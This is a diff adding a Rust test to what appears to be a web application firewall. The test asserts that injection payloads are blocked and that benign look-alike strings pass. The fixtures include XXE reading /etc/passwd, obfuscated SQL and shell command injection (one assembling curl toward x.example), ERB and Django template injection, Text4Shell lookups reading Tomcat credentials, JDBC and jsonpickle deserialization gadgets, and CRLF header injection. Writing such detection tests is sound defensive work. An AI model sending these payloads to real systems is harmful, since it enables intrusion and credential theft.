@@ -1423,3 +1423,97 @@ fn more_injected_response_headers_block() {
     let v = get(e, "/a?r=Check%20this%0d%0aLink:%20https://example.com");
     assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
 }
+
+/// The second review's holes: charsets named where the first bytes do not
+/// show them, XML text split by comments, numeric conditions after an
+/// expression, shell variables as commands, more lookups, ERB and Django
+/// secrets, JDBC and jsonpickle shapes, endpoints behind path tricks,
+/// injected request headers.
+#[test]
+fn second_review_holes_block() {
+    let e = default_engine();
+    let xxe = r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
+    for (ct, body, rule) in [
+        (
+            "application/xml",
+            format!(r#"<?xml version="1.0" encoding="UTF-16LE"?>{xxe}"#),
+            "protocol-charset-evasion",
+        ),
+        (
+            "text/xml",
+            format!(r#"<?xml version="1.0" encoding="UTF-7"?>{xxe}"#),
+            "protocol-charset-evasion",
+        ),
+        (
+            "application/x-www-form-urlencoded; charset*=''utf-7",
+            "q=1".to_owned(),
+            "protocol-charset-evasion",
+        ),
+        (
+            "application/x-www-form-urlencoded; x=\\\"; charset=utf-7",
+            "q=1".to_owned(),
+            "protocol-charset-evasion",
+        ),
+        (
+            "application/xml",
+            "<q>1' un<!---->ion sel<!---->ect password from users--</q>".to_owned(),
+            "sqli-union-select",
+        ),
+    ] {
+        assert_blocks_with(&post(e, "/a", ct, &body), rule, ct);
+    }
+    for (q, rule) in [
+        ("1-0 and password>0x6d", "sqli-number-condition"),
+        ("1e0 and password>0x6d", "sqli-number-condition"),
+        ("~1 and password>0x6d", "sqli-number-condition"),
+        ("1 and password ~* '^a'", "sqli-number-condition"),
+        (";a=cu;b=rl;$a$b x.example|$0", "cmdi-parameter-expansion"),
+        ("x|$0 -c id", "cmdi-parameter-expansion"),
+        ("127.0.0.1|id", "cmdi-pipe-recon"),
+        ("127.0.0.1&id", "cmdi-pipe-recon"),
+        (
+            "<%= Object.const_get('K'+'ernel').method('sys'+'tem').call('id') %>",
+            "ssti-expression",
+        ),
+        ("{{messages.storages.0.signer.key}}", "ssti-expression"),
+        ("${base64Decoder:JHtzY3JpcHQ6anM6MX0=}", "text4shell-lookup"),
+        (
+            "${xml:/usr/local/tomcat/conf/tomcat-users.xml:/tomcat-users/user[1]/@password}",
+            "text4shell-lookup",
+        ),
+        (
+            "jdbc:mysql://x.example:3306/t?autoDeserialize=true&queryInterceptors=a",
+            "java-jackson-gadget",
+        ),
+        (
+            r#"{"py\/reduce":[{"py\/function":"os.system"}]}"#,
+            "python-jsonpickle",
+        ),
+        ("x\nStatus: 302", "crlf-header-injection"),
+        ("x\r\nHost: evil.example.com", "crlf-header-injection"),
+        ("x\r\nAuthorization: Basic YTpi", "crlf-header-injection"),
+    ] {
+        assert_blocks_with(&get(e, &format!("/a?x={}", pct(q))), rule, q);
+    }
+    for path in [
+        "/actuator;/env",
+        "/actuator//heapdump",
+        "/actuator/./gateway/routes",
+    ] {
+        assert_blocks_with(&get(e, path), "lfi-private-endpoint", path);
+    }
+    for l in [
+        "1-0 and counting",
+        "id and password are required",
+        "costs $0 - cheap",
+        "127.0.0.1|web01",
+        "jdbc:mysql://db:3306/app?useSSL=false",
+        "Thanks\nHost: John Smith",
+        "Order 55\nStatus: shipped",
+    ] {
+        let v = get(e, &format!("/a?x={}", pct(l)));
+        assert_eq!(v.action, Action::Pass, "{l}: {:?}", v.attacks);
+    }
+    let v = get(e, "/shop;jsessionid=ABC/cart");
+    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
+}
